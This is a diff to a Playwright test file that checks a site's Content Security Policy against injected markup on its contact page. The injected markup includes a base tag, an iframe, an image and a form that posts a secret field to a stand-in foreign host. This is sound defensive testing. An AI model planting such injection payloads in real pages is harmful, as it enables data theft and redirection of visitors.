@@ -1,10 +1,10 @@
 import type { Page } from 'playwright';
 import { describe, expect, test } from 'vitest';
-import { usePages } from './fixture.ts';
+import { problemsOf, rewriting, usePages } from './fixture.ts';
 
 // What a hole in the site would let an attacker try, on a page that is shown. None of it may come to anything.
 const FOREIGN = 'https://elsewhere.example';
-const pages = usePages({ change: addMarkup });
+const pages = usePages('fixture');
 
 /** Markup as it would come with a page into which somebody wrote. */
 const INJECTED = [
@@ -15,22 +15,23 @@ const INJECTED = [
   '<style>#styled { background: rgb(4, 5, 6) }</style>',
   `<base href="${FOREIGN}/">`,
   `<iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>`,
+  `<img src="${FOREIGN}/picture.png" alt="">`,
   `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
 ].join('');
 
-function addMarkup(output: Map<string, string | Uint8Array>): void {
-  const contact = String(output.get('contact/index.html'));
-  output.set(
-    'contact/index.html',
-    contact.replace('<main', () => `${INJECTED}<main`),
-  );
+interface Opened {
+  page: Page;
+  violated(): Promise<string[]>;
+  foreign: string[];
 }
 
-/** Opens a page that notes which directives were violated, and which requests leave the site. */
-async function openPage(path: string): Promise<{ page: Page; violated(): Promise<string[]>; foreign: string[] }> {
+/** Opens a page, with such markup where one is given, that notes which directives were
+ *  violated, and which requests leave the site. */
+async function openPage(path: string, markup = ''): Promise<Opened> {
   const foreign: string[] = [];
   const page = await pages.open(path, {
     prepare: async (page) => {
+      await rewriting((html) => html.replace('<main', () => `${markup}<main`))(page);
       // What the policy blocks never gets as far as this.
       await page.route(`${FOREIGN}/**`, (route) => {
         foreign.push(route.request().url());
@@ -49,7 +50,7 @@ async function openPage(path: string): Promise<{ page: Page; violated(): Promise
 }
 
 test('markup that somebody wrote into a page runs, styles, loads and redirects nothing', async () => {
-  const { page, violated, foreign } = await openPage('/contact/');
+  const { page, violated, foreign } = await openPage('/contact/', INJECTED);
   expect(await page.evaluate(() => 'injected' in window)).toBe(false);
   const { color, backgroundColor } = await page.evaluate(() => {
     const { color, backgroundColor } = getComputedStyle(document.querySelector('#styled')!);
@@ -59,6 +60,10 @@ test('markup that somebody wrote into a page runs, styles, loads and redirects n
   expect(backgroundColor).not.toBe('rgb(4, 5, 6)');
   expect(new URL(await page.evaluate(() => document.baseURI)).origin).toBe(pages.origin);
   expect(foreign).toEqual([]);
+  // What the other tests rely on: each violation is among the problems of a page.
+  for (const violation of ['script-src-elem by inline', `img-src by ${FOREIGN}`, 'style-src-attr by inline']) {
+    expect((await problemsOf(page)).join('\n')).toContain(`policy violated: ${violation}`);
+  }
   expect(await violated()).toEqual(
     expect.arrayContaining([
       ...['base-uri', 'frame-src', 'object-src'],
@@ -67,8 +72,25 @@ test('markup that somebody wrote into a page runs, styles, loads and redirects n
   );
 });
 
+test('without the policy all of it would happen, and be recorded', async () => {
+  const page = await pages.open('/contact/', {
+    prepare: rewriting((html) =>
+      html
+        .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
+        .replace('<main', () => `<script>console.warn('a warning')</script>${INJECTED}<main`),
+    ),
+  });
+  expect(await page.evaluate(() => 'injected' in window)).toBe(true);
+  const problems = (await problemsOf(page)).join('\n');
+  for (const problem of ['foreign request', 'failed request']) {
+    expect(problems).toContain(`${problem}: ${FOREIGN}/picture.png`);
+  }
+  expect(problems).toContain('console: a warning');
+  expect(problems).toMatch(/404: .*no-such-picture/);
+});
+
 test('a form that somebody wrote into a page sends nothing', async () => {
-  const { page, violated, foreign } = await openPage('/contact/');
+  const { page, violated, foreign } = await openPage('/contact/', INJECTED);
   const before = page.url();
   await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
   await expect.poll(violated).toContain('form-action');
